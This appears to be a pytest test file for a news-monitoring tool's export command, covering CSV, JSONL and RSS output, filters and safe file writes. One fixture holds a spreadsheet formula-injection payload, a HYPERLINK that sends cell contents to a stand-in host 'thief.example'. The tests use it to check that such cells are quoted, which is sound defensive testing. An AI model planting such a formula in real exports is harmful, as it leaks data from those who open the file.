"""export: what it writes is read back by programs that others wrote."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import feedparser
import pytest

from supplierwatch.exports.tables import COLUMNS, quote_formula
from supplierwatch.shell.exits import Exit
from tests.supplierwatch.instance import Instance, an_article, an_instance

FORMULA = '=HYPERLINK("http://thief.example/?"&A1,"Halcyon prices")'


@pytest.fixture
def instance(tmp_path: Path) -> Instance:
    """Three items, the third a formula for a headline; the watches find each at least once."""
    made = an_instance(tmp_path)
    with made.service():
        pass
    made.stores(
        an_article(),
        an_article("corvid", title="Corvid Data & friends <b>merge</b>", source_key="trolley"),
        an_article("thief", title=FORMULA, body="Halcyon and the trust, +1 on prices.\x0b 🏥"),
    )
    return made


def rows_of(instance: Instance, *args: str) -> list[dict[str, str]]:
    file = instance.data / "out.csv"
    instance.run("export", str(file), *args)
    with file.open(encoding="utf-8", newline="") as read:
        return list(csv.DictReader(read))


def test_a_table_is_read_back_by_csv(instance: Instance) -> None:
    rows = rows_of(instance, "--watch", "halcyon-trusts")
    assert [row["title"] for row in rows] == [
        "'" + FORMULA,
        "Corvid Data & friends <b>merge</b>",
        "Millbrook pauses its Halcyon roll-out",
    ]
    assert list(rows[0]) == list(COLUMNS)
    millbrook = rows[2]
    assert millbrook["source_name"] == "The Ward Ledger"
    assert millbrook["suppliers"] == "halcyon"
    assert millbrook["words"] == "trust; Halcyon Health; Halcyon"
    assert millbrook["baseline"] == "no"
    assert millbrook["also_in"] == "trolley"


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\t+"])
def test_a_cell_that_a_spreadsheet_would_compute_is_quoted(begins: str) -> None:
    assert quote_formula(f"{begins}1+1") == f"'{begins}1+1"


@pytest.mark.parametrize("text", ["", "Halcyon -1", "1=1", "'=1", "a@b.example"])
def test_a_cell_that_is_text_stays_as_it_is(text: str) -> None:
    assert quote_formula(text) == text


def test_excel_is_told_that_a_table_is_utf_8(instance: Instance) -> None:
    rows_of(instance, "--bom")
    assert (instance.data / "out.csv").read_bytes().startswith(b"\xef\xbb\xbffirst_seen_at,")
    rows_of(instance)
    assert (instance.data / "out.csv").read_bytes().startswith(b"first_seen_at,")
    assert instance.run("export", "--format", "rss", "--bom").exit_code == Exit.USAGE


def test_lines_are_read_back_by_json(instance: Instance) -> None:
    run = instance.run("export", "--format", "jsonl", "--watch", "halcyon-trusts")
    found: list[dict[str, Any]] = [json.loads(line) for line in run.stdout.splitlines()]
    assert found[0]["item"]["title"] == FORMULA
    assert found[2]["why"]["sentence"].startswith("Millbrook Hospitals has paused")
    assert found[2]["also_in"] == ["trolley"]
    assert found[2]["suppliers"] == ["halcyon"]


def test_a_feed_is_read_back_by_feedparser(instance: Instance) -> None:
    file = instance.data / "watch.rss"
    assert instance.run("export", str(file), "--watch", "halcyon-trusts").exit_code == 0
    feed = feedparser.parse(file.read_bytes())
    assert not feed.bozo
    assert feed.version == "rss20"
    assert [entry.link.rpartition("/")[2] for entry in feed.entries] == [
        *("thief", "corvid", "millbrook"),
    ]
    assert feed.entries[0].title == FORMULA
    assert feed.entries[2].tags[0].term == "halcyon-trusts"
    assert "Millbrook Hospitals has paused" in feed.entries[2].summary
    assert len({entry.id for entry in feed.entries}) == 3
    age = datetime.now(UTC) - datetime(*feed.entries[2].published_parsed[:6], tzinfo=UTC)
    assert timedelta(hours=1) < age < timedelta(hours=3)


def test_filters_narrow_what_is_written(instance: Instance) -> None:
    assert {row["watch"] for row in rows_of(instance)} >= {"halcyon-trusts", "corvid"}
    assert {row["watch"] for row in rows_of(instance, "--watch", "corvid")} == {"corvid"}
    assert len(rows_of(instance, "--limit", "1")) == 1
    assert rows_of(instance, "--supplier", "halcyon")
    assert rows_of(instance, "--since", "1h")
    assert not rows_of(instance, "--until", "1h")
    tomorrow = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
    assert not rows_of(instance, "--since", tomorrow)
    assert rows_of(instance, "--until", tomorrow)


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (("--watch", "halcyon-trust"), "halcyon-trusts"),
        (("--supplier", "halcion"), "halcyon"),
        (("--until", "yesterday"), "--until"),
        (("mentions.doc",), "--format"),
    ],
    ids=["watch", "supplier", "until", "ending"],
)
def test_what_is_not_there_is_refused_by_name(
    instance: Instance, args: tuple[str, ...], said: str
) -> None:
    run = instance.run("export", *args)
    assert run.exit_code == Exit.USAGE
    assert said in run.stderr


def test_a_file_is_there_whole_or_as_it_was(
    instance: Instance, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = instance.data / "out.csv"
    file.write_text("before", encoding="utf-8")
    monkeypatch.setattr(csv, "writer", lambda *_, **__: _Breaks())
    assert instance.run("export", str(file)).exit_code == Exit.FAILED
    assert file.read_text(encoding="utf-8") == "before"
    assert [path.name for path in instance.data.iterdir() if path.suffix == ".tmp"] == []


class _Breaks:
    """A disk that is full."""

    def writerow(self, row: object) -> None:
        raise OSError(28, "No space left on device")


def test_nothing_to_export_is_said_and_an_empty_table_written(instance: Instance) -> None:
    file = instance.data / "none.csv"
    run = instance.run("export", str(file), "--until", "2020-01-01")
    assert run.exit_code == Exit.NOTHING_FOUND
    assert list(csv.reader(io.StringIO(file.read_text(encoding="utf-8")))) == [list(COLUMNS)]
